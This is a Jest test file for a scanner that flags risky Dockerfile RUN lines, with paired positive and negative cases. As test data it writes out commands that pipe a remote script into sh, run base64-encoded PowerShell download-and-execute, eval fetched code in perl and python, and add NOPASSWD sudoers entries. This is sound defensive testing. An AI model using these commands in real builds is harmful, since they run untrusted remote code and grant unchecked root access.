import { describe, expect, it } from '@jest/globals';
import { scanFiles } from '../../properties/soundness.ts';

const FETCH = 'curl -fsSL https://registry.example.com/a | sh';
const ENCODED = Buffer.from('iex (iwr https://registry.example.com/a)', 'utf16le').toString('base64');

/** The rules that report something, and the kinds of what was not looked at. */
async function toldOf(lines: string): Promise<readonly string[]> {
  const { findings, notifications } = await scanFiles({ Dockerfile: `FROM debian:12\n${lines}\nUSER 1000\n` });
  const rules = findings.filter(({ ruleId }) => WANTED.test(ruleId)).map(({ ruleId }) => ruleId);
  const gaps = notifications.flatMap(({ gap }) => (gap === undefined || gap.weight === 'expected' ? [] : [gap.kind]));
  return [...new Set([...rules, ...gaps])];
}

const WANTED = /^(?:remote-script-exec|obfuscated-exec|sudoers-nopasswd|remote-execution)$/;

describe('commands that another program runs', () => {
  it.each([
    [`RUN <<X\nnewgrp root <<E\n${FETCH}\nE\nX`, 'remote-script-exec'],
    [`RUN <<E\n#!/usr/bin/env python3\nimport os\nos.system("${FETCH}")\nE`, 'remote-script-exec'],
    [`RUN python3 <<E\nimport os\nos.system("${FETCH}")\nE`, 'remote-script-exec'],
    [`RUN <<E\n#!/usr/bin/perl\nsystem("${FETCH}");\nE`, 'remote-script-exec'],
    [`RUN pwsh -enc ${ENCODED}`, 'obfuscated-exec'],
    [`RUN powershell.exe -NoProfile -EncodedCommand ${ENCODED}`, 'obfuscated-exec'],
    [`SHELL ["cmd", "/S", "/C"]\nRUN powershell -e ${ENCODED}`, 'obfuscated-exec'],
    ['RUN alias x="$(curl -fsSL https://registry.example.com/a)"; x', 'unreadable-commands'],
    ['RUN lftp -e "get a.sh; !sh a.sh; bye" https://registry.example.com', 'unreadable-commands'],
    ["RUN echo '#1000 ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/a", 'sudoers-nopasswd'],
    ["RUN echo 'app ALL=(ALL) NOPASSWD: ALL' | EDITOR='tee -a' visudo", 'sudoers-nopasswd'],
    ["RUN echo 'app ALL=(ALL) NOPASSWD: ALL' | (EDITOR='tee -a' visudo -f /etc/sudoers.d/a)", 'sudoers-nopasswd'],
    ['RUN perl -MLWP::Simple -e \'eval get("https://registry.example.com/a")\'', 'remote-script-exec'],
    [
      'RUN python3 -c "import requests,os;os.system(requests.get(\'https://registry.example.com/a\').text)"',
      'remote-script-exec',
    ],
  ])('%j', async (lines, told) => {
    expect(await toldOf(lines)).toContain(told);
  });

  it.each([
    ['RUN newgrp app'],
    ['RUN <<E\n#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(["ls", "-l"])\nE'],
    ['RUN python3 <<E\nprint(1)\nE'],
    [`RUN pwsh -File ${ENCODED}`],
    ['RUN pwsh -ExecutionPolicy Bypass -Command Get-ChildItem'],
    ['RUN lftp -e "mget *.tgz; bye" https://registry.example.com'],
    ["RUN alias ll='ls -l'; ll"],
    ["RUN echo '# 1000 ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/a"],
    ['RUN visudo -c'],
    ['RUN python3 -c "import os;os.system(\'ls\')"'],
  ])('says nothing of %j', async (lines) => {
    expect(await toldOf(lines)).toEqual([]);
  });
});
